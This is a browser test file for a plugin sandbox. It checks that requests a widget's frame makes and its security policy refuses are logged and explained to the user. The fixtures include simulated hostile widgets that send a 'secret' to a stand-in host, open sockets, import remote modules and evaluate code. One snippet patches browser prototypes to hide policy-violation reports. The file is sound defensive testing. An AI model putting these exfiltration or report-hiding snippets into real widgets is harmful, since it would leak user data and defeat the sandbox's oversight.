import type { Host } from '@nousviz/widget-runtime';
import { expect, frameIn, test } from './places.ts';

/** A widget that calls a function of its props when it has rendered. */
const widget = (run: string) => `
import { useEffect } from '/api/widget-runtime/react.js';
export default function Widget({ host }) {
  useEffect(() => void (async () => { ${run} })(), []);
  return 'Works';
}`;

/** What the widget’s code may replace to hide what its frame refuses. */
const HIDING = `
const silent = () => {};
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message, ...rest) { if (message.type !== 'refused') post.call(this, message, ...rest); };
for (const type of ['securitypolicyviolation'])
  for (const target of [window, document]) target.addEventListener(type, (event) => event.stopImmediatePropagation(), true);
for (const name of ['blockedURI', 'effectiveDirective'])
  try { Object.defineProperty(SecurityPolicyViolationEvent.prototype, name, { get: () => 'eval' }); } catch {}
try { Object.setPrototypeOf(SecurityPolicyViolationEvent.prototype, new Proxy({}, {})); } catch {}
try { document.open(); } catch {}
try { document.write('<p>A new document'); } catch {}
window.setTimeout = silent;
Object.defineProperty(Object.prototype, 'count', { get: () => -1e9, set: silent });
Object.assign(String.prototype, { split: silent, slice: silent });
RegExp.prototype.exec = silent;
`;

const IMAGE = `add('https://other.test/a.png?secret'); add('https://other.test/b.png');
  function add(src) { document.body.appendChild(Object.assign(new Image(), { src })); }`;

/** The widget of each plugin. */
const PLUGINS = {
  images: widget(IMAGE),
  network: widget(`
    for (const url of ['https://other.test/items', '/api/plugins']) await fetch(url).catch(() => {});
    try { new WebSocket('wss://other.test/socket'); } catch {}
    await import('https://other.test/module.js').catch(() => {});
    try { new Function('return 1')(); } catch {}`),
  routes: widget(`await host.apiFetch('/api/session?token=secret').catch(() => {});`),
  hiding: widget(HIDING + IMAGE),
  quiet: widget(''),
};

type Hosted = typeof globalThis & { host: Host };

test('the page knows which requests of a widget were refused', async ({ page, show, expected }) => {
  // The browser writes about each refusal, and the page about images.
  expected.push(/./);
  await page.setViewportSize({ width: 1280, height: 1500 });
  await show({ plugins: PLUGINS });
  for (const id of Object.keys(PLUGINS)) await expect(frameIn(page, id).getByText('Works')).toBeVisible();

  const refused = (id: string) =>
    page.evaluate(
      (pluginId) =>
        (globalThis as Hosted).host.activity
          .getSnapshot()
          .filter((entry) => entry.kind === 'refusal' && entry.pluginId === pluginId)
          .map(({ text }) => text),
      id,
    );
  const images = ['refused 2 requests: img-src https://other.test (2)'];
  await expect.poll(() => refused('images')).toEqual(images);
  await expect.poll(() => refused('hiding')).toEqual(images);
  const network = async () => (await refused('network')).join();
  // The reports arrive in no certain order.
  for (const fact of [
    'script-src-elem https://other.test',
    'connect-src https://other.test',
    'connect-src wss://other.test',
    `connect-src ${new URL(page.url()).origin}`,
    'code from strings',
  ])
    await expect.poll(network).toContain(fact);
  expect(await network()).not.toMatch(/eval|items|module\.js/);
  await expect.poll(() => refused('routes')).toEqual(['refused 1 request: route /api/session']);
  expect(await refused('quiet')).toEqual([]);
  const line = (id: string) => page.locator(`[data-sandboxed="${id}"]`).getByText(/^The sandbox refused/);
  await expect(line('routes')).toHaveText('The sandbox refused a request of this widget.');
  await expect(line('quiet')).toHaveCount(0);

  const explained = (id: string) =>
    page.evaluate(
      async (pluginId) =>
        (await (globalThis as Hosted).host.explain(pluginId, 'Chart')).steps.find(
          ({ step }) => step === 'requests',
        ),
      id,
    );
  expect(await explained('images')).toMatchObject({
    ok: false,
    fact: 'The frame refused 2 requests: img-src https://other.test (2).',
    remedy: expect.stringContaining('trust the plugin'),
  });
  expect(await explained('quiet')).toMatchObject({ ok: true });
});

/** The style sheets of a page with a font and images of its own. */
const SHEETS = `<style>
@import url("/imported.css");
@font-face { font-family: Own; src: url("/own.woff2") }
body { font-family: Own; --image: url(/image.png) }
.styled { background: url("/background.png"); border-image: var(--image); color: rgb(1, 2, 3) }
</style>`;

test('what the page’s own style sheets would request is not the widget’s', async ({ page, show }) => {
  await page.route('**/imported.css', (route) =>
    route.fulfill({
      contentType: 'text/css',
      body: '.styled { padding-left: 17px; list-style: url("/list.png") }',
    }),
  );
  await page.addInitScript((sheets) => {
    if (window === top)
      addEventListener('DOMContentLoaded', () => document.head.insertAdjacentHTML('beforeend', sheets));
  }, SHEETS);
  await show({
    plugins: {
      sly: `import { jsx } from '/api/widget-runtime/react-jsx-runtime.js';
export default () => jsx('p', { className: 'styled', children: 'Works' });`,
    },
  });
  const text = frameIn(page, 'sly').getByText('Works');
  await expect(text).toBeVisible();
  await expect(text).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(text).toHaveCSS('padding-left', '17px');
  // More than one report of the frame’s script would have arrived.
  await page.waitForTimeout(2500);
  expect(
    await page.evaluate(() => (globalThis as Hosted).host.activity.getSnapshot().map((entry) => entry.text)),
  ).toEqual([]);
  await expect(page.getByRole('note')).toHaveCount(0);
});
